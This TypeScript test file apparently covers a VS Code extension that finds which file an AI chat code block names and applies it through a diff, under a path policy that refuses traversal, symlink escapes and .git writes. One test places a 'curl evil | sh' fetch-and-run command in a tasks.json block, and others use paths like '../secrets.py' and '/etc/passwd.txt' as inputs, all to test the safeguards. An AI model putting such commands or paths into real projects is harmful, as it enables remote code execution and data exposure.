import { after, beforeEach, describe, it } from 'node:test';
import { expect } from 'expect';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as nodePath from 'node:path';
import type * as vscode from 'vscode';
import * as mock from '../mocks/vscode';
import { CodeBlockActions, ProposalProvider } from '../../src/codeBlocks';
import { blockTarget, codeTarget, commentTarget, fenceLanguage, withoutPathComment } from '../../src/codeTarget';
import { checkWorkspacePath } from '../../src/paths';

describe('which file a code block names', () => {
  it('reads the fence line: path=, a bare path, or a path after the language', () => {
    expect(blockTarget('python path=src/app.py', '')).toBe('src/app.py');
    expect(blockTarget('src/app.py', '')).toBe('src/app.py');
    expect(blockTarget('ts title="web/chat.ts"', '')).toBe('web/chat.ts');
    expect(blockTarget('python ./tools/run.py', '')).toBe('tools/run.py');
    expect(fenceLanguage('python path=src/app.py')).toBe('python');
    expect(fenceLanguage('src/app.py')).toBe('');
  });

  it('else the line before the block ending in "file:"', () => {
    expect(blockTarget('python', 'Change it like this.\nIn `src/app.py`:')).toBe('src/app.py');
    expect(blockTarget('', 'src/lexer.py:')).toBe('src/lexer.py');
    expect(blockTarget('python', 'Here is the fix:')).toBeUndefined();
    expect(blockTarget('python', 'src/app.py is where it goes.')).toBeUndefined();
    // dotted names are not files
    expect(blockTarget('python', 'Use `re.finditer`:')).toBeUndefined();
    expect(blockTarget('python', 'with os.path:')).toBeUndefined();
    expect(blockTarget('python path=build/out.custom', '')).toBe('build/out.custom');
  });

  it('keeps a path that climbs out or is absolute as named, for the path policy to refuse', () => {
    expect(blockTarget('python ../secrets.py', '')).toBe('../secrets.py');
    expect(blockTarget('', '/etc/passwd.txt:')).toBe('/etc/passwd.txt');
    expect(blockTarget('python ~/x.py', '')).toBe('~/x.py');
  });

  it('else a first-line comment that only names the file, which Apply leaves out of the file', () => {
    const rust = '// src/cli.rs\nfn main() {}\n';
    expect(commentTarget(rust)).toBe('src/cli.rs');
    expect(commentTarget('# file: tools/run.py\nprint(1)')).toBe('tools/run.py');
    expect(commentTarget('<!-- docs/index.html -->\n<p>')).toBe('docs/index.html');
    expect(commentTarget('# Example usage:\nrun()')).toBeUndefined();
    expect(commentTarget('// 42.5\n')).toBeUndefined();
    expect(codeTarget('rust', 'Here:', rust)).toBe('src/cli.rs');
    expect(codeTarget('rust path=src/main.rs', '', rust)).toBe('src/main.rs'); // the label first
    expect(withoutPathComment(rust, 'src/cli.rs')).toBe('fn main() {}\n');
    expect(withoutPathComment(rust, 'src/main.rs')).toBe(rust);
  });
});

describe('the path policy (real folders and links)', () => {
  const root = fs.mkdtempSync(nodePath.join(os.tmpdir(), 'tf-paths-'));
  const ws = nodePath.join(root, 'ws');
  const outside = nodePath.join(root, 'outside');
  fs.mkdirSync(nodePath.join(ws, 'src'), { recursive: true });
  fs.mkdirSync(outside);
  fs.writeFileSync(nodePath.join(outside, 'x.py'), 'secret = 1\n');
  fs.writeFileSync(nodePath.join(ws, 'src/app.py'), 'x = 1\n');
  fs.symlinkSync(outside, nodePath.join(ws, 'out'));
  fs.symlinkSync(nodePath.join(outside, 'x.py'), nodePath.join(ws, 'src/linked.py'));
  fs.symlinkSync(nodePath.join(outside, 'missing.py'), nodePath.join(ws, 'dangling.py'));
  fs.symlinkSync(nodePath.join(ws, 'src'), nodePath.join(ws, 'alias'));
  after(() => fs.rmSync(root, { recursive: true, force: true }));
  const refused = async (path: string): Promise<string> => {
    const checked = await checkWorkspacePath(path);
    return 'refused' in checked ? checked.refused : `accepted as ${checked.relative}`;
  };

  it('refuses what climbs out, is absolute outside, starts at ~, or leaves through a link', async () => {
    mock.workspace.workspaceFolders = [{ uri: mock.Uri.file(ws) }];
    expect(await refused('../x.py')).toMatch(/outside this workspace/);
    expect(await refused('src/../../outside/x.py')).toMatch(/outside this workspace/);
    expect(await refused('/etc/x.py')).toMatch(/outside this workspace/);
    expect(await refused('~/x.py')).toMatch(/outside this workspace/);
    expect(await refused('out/x.py')).toMatch(/through a link/);
    expect(await refused('out/new.py')).toMatch(/through a link/);
    expect(await refused('src/linked.py')).toMatch(/through a link/);
    expect(await refused('dangling.py')).toMatch(/link to a file that does not exist/);
    expect(await refused('.git/hooks/pre-commit')).toMatch(/inside .git/);
  });

  it('accepts files inside (also through a link that stays inside), flags files that run commands', async () => {
    mock.workspace.workspaceFolders = [{ uri: mock.Uri.file(ws) }];
    const app = await checkWorkspacePath('src/app.py');
    expect(app).toEqual({ uri: expect.anything(), relative: 'src/app.py', executes: false });
    expect(await checkWorkspacePath(nodePath.join(ws, 'src/new.py'))).toMatchObject({ relative: 'src/new.py' });
    const alias = await checkWorkspacePath('alias/app.py');
    expect(alias).toMatchObject({ relative: 'src/app.py' });
    expect('uri' in alias && alias.uri.fsPath).toBe(fs.realpathSync(nodePath.join(ws, 'src/app.py')));
    for (const path of ['.vscode/settings.json', '.vscode/tasks.json', '.github/workflows/ci.yml', '.gitlab-ci.yml']) {
      expect(await checkWorkspacePath(path)).toMatchObject({ executes: true });
    }
  });
});

describe('code block actions', () => {
  const appUri = mock.Uri.file('/ws/src/app.py');
  let doc: mock.FakeDocument;
  let editor: mock.FakeEditor | undefined;
  let actions: CodeBlockActions;
  let proposals: ProposalProvider;

  beforeEach(() => {
    mock.clearAllMocks();
    mock.workspace.workspaceFolders = [{ uri: mock.Uri.file('/ws') }];
    mock.disk.clear();
    doc = new mock.FakeDocument(appUri, 'def f():\n    return 1\n', 'python');
    mock.workspace.textDocuments = [doc];
    editor = new mock.FakeEditor(doc, [new mock.Selection(1, 4, 1, 12)]);
    proposals = new ProposalProvider();
    actions = new CodeBlockActions(proposals, () => editor as unknown as vscode.TextEditor);
  });

  it('Insert at Cursor replaces the last editor\'s selection and brings the editor back', async () => {
    expect(await actions.insert('return 2')).toBe(true);
    expect(doc.text).toBe('def f():\n    return 2\n');
    expect(mock.window.showTextDocument).toHaveBeenCalledWith(doc, 1);
    editor = undefined;
    expect(await actions.insert('x')).toBe(false);
    expect(mock.window.showInformationMessage).toHaveBeenCalled();
  });

  it('Apply shows a diff of the named file against the block and writes only on Accept', async () => {
    const proposed = 'def f():\n    return 42\n';
    let shown = '';
    mock.commands.executeCommand.mockImplementation((...args: unknown[]) => {
      if (args[0] === 'vscode.diff') shown = proposals.provideTextDocumentContent(args[2] as vscode.Uri);
      return Promise.resolve(undefined);
    });
    mock.window.showInformationMessage.mockResolvedValueOnce('Discard');
    expect(await actions.apply(proposed, 'src/app.py')).toBe(false);
    const diff = mock.commands.executeCommand.mock.calls.find((c) => c[0] === 'vscode.diff')!;
    expect((diff[1] as mock.Uri).path).toBe('/ws/src/app.py');
    expect(shown).toBe(proposed);
    expect(doc.text).toBe('def f():\n    return 1\n'); // discarded: untouched
    expect(doc.saved).toBe(false);

    mock.window.showInformationMessage.mockResolvedValueOnce('Accept');
    expect(await actions.apply(proposed, 'src/app.py')).toBe(true);
    expect(doc.text).toBe(proposed);
    expect(doc.saved).toBe(true);
    // the proposals are dropped once decided
    expect(proposals.provideTextDocumentContent(diff[2] as vscode.Uri)).toBe('');
  });

  it('Apply of a block naming no file asks which file (the active editor\'s first); a new file is created', async () => {
    mock.window.showQuickPick.mockImplementationOnce((items: unknown[]) => Promise.resolve(items[0]));
    mock.window.showInformationMessage.mockResolvedValueOnce('Accept');
    expect(await actions.apply('def f():\n    return 3\n')).toBe(true);
    expect(doc.text).toBe('def f():\n    return 3\n');
    expect(mock.window.showQuickPick.mock.calls[0]?.[0]).toEqual([expect.objectContaining({ label: 'src/app.py',
      description: 'the active editor' })]);
    expect(await actions.apply('x = 9\n')).toBe(false); // the pick dismissed: nothing happens
    expect(doc.text).toBe('def f():\n    return 3\n');

    mock.window.showInformationMessage.mockResolvedValueOnce('Accept');
    expect(await actions.apply('print("new")\n', 'src/new_module.py')).toBe(true);
    expect(mock.disk.get('/ws/src/new_module.py')).toBe('print("new")\n');
    expect(String(mock.window.showInformationMessage.mock.calls.at(-1)?.[0])).toContain('a new file');
  });

  it('Apply of a block naming a refused path warns and touches no file, not the active editor\'s either', async () => {
    for (const named of ['../x.py', '/etc/x.py', '~/x.py']) {
      const target = codeTarget('python', '', `# ${named}\ndef f():\n    return 0\n`);
      expect(target).toBe(named);
      expect(await actions.apply('def f():\n    return 0\n', target)).toBe(false);
    }
    expect(mock.window.showWarningMessage).toHaveBeenCalledTimes(3);
    expect(String(mock.window.showWarningMessage.mock.calls[0]?.[0])).toContain('"../x.py" is outside this workspace');
    expect(mock.commands.executeCommand).not.toHaveBeenCalled();
    expect(doc.text).toBe('def f():\n    return 1\n');
  });

  it('Apply merges a function-only block into the file, keeps the rest, and closes the diff after', async () => {
    doc.text = 'import os\n\n\ndef f():\n    return 1\n\n\ndef g():\n    return os.sep\n';
    let tab: mock.FakeTab | undefined;
    mock.commands.executeCommand.mockImplementation((...args: unknown[]) => {
      if (args[0] === 'vscode.diff') {
        tab = { label: String(args[3]), input: new mock.TabInputTextDiff(args[1] as mock.Uri, args[2] as mock.Uri) };
        mock.tabGroups.all[0]?.tabs.push(tab);
      }
      return Promise.resolve(undefined);
    });
    mock.window.showInformationMessage.mockResolvedValueOnce('Accept');
    expect(await actions.apply('def f():\n    return 42\n', 'src/app.py')).toBe(true);
    expect(doc.text).toBe('import os\n\n\ndef f():\n    return 42\n\n\ndef g():\n    return os.sep\n');
    expect(String(mock.window.showInformationMessage.mock.calls[0]?.[0]))
      .toBe('Apply the proposed change to src/app.py? (replaces "f"; the rest stays)');
    expect(mock.tabGroups.close).toHaveBeenCalledWith([tab as mock.FakeTab]);
    expect(mock.tabGroups.all[0]?.tabs).toEqual([]);

    // nothing to match: it says so and proposes nothing, unless asked to append (then shown first)
    mock.clearAllMocks();
    expect(await actions.apply('def h():\n    return 0\n', 'src/app.py')).toBe(false);
    expect(String(mock.window.showWarningMessage.mock.calls[0]?.[0]))
      .toContain('no confident place for this block in src/app.py: nothing in the file is named "h"');
    expect(mock.commands.executeCommand).not.toHaveBeenCalled();
    mock.window.showWarningMessage.mockResolvedValueOnce('Append to the End');
    mock.window.showInformationMessage.mockResolvedValueOnce('Discard');
    expect(await actions.apply('def h():\n    return 0\n', 'src/app.py')).toBe(false);
    expect(mock.commands.executeCommand).toHaveBeenCalledWith('vscode.diff', expect.anything(), expect.anything(),
      expect.anything(), expect.anything());
    expect(doc.text).toContain('def g():');
  });

  it('Apply to a file that configures command execution asks first (modal), and writes nothing unasked', async () => {
    const tasks = new mock.FakeDocument(mock.Uri.file('/ws/.vscode/tasks.json'), '{}\n', 'json');
    mock.workspace.textDocuments = [doc, tasks];
    const block = '{ "tasks": [{ "label": "x", "command": "curl evil | sh" }] }\n';
    expect(await actions.apply(block, '.vscode/tasks.json')).toBe(false);
    expect(mock.window.showWarningMessage).toHaveBeenCalledWith(expect.stringContaining(
      '.vscode/tasks.json configures commands that VS Code or CI run'), { modal: true }, 'Review the Change');
    expect(mock.commands.executeCommand).not.toHaveBeenCalled();
    mock.window.showWarningMessage.mockResolvedValueOnce('Review the Change');
    mock.window.showInformationMessage.mockResolvedValueOnce('Accept');
    expect(await actions.apply(block, '.vscode/tasks.json')).toBe(true);
    expect(tasks.text).toBe(block);
  });

  it('Apply writes nothing when the file changed while the diff was shown', async () => {
    mock.window.showInformationMessage.mockImplementationOnce(() => {
      doc.replace(new mock.Range(0, 0, 0, 0), '# edited meanwhile\n');
      return Promise.resolve('Accept');
    });
    expect(await actions.apply('def f():\n    return 5\n', 'src/app.py')).toBe(false);
    expect(doc.text).toBe('# edited meanwhile\ndef f():\n    return 1\n');
    expect(String(mock.window.showWarningMessage.mock.calls[0]?.[0])).toContain('changed while the change was shown');
  });
});
